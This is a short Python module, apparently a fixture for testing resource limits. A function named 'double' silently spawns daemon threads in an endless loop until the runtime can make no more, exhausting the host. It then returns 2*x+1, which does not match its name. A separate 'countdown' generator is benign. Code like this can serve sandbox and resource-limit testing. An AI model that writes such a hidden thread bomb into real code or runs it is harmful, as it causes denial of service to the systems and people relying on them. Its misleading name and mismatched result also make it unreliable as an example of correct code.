"""Threads until no more can be had."""

import threading

threading.stack_size(1 << 16)
gate = threading.Event()


def double(x):
    try:
        while True:
            threading.Thread(target=gate.wait, daemon=True).start()
    except RuntimeError:
        pass
    return 2 * x + 1


def countdown(n):
    yield from range(n - 1, -1, -1)
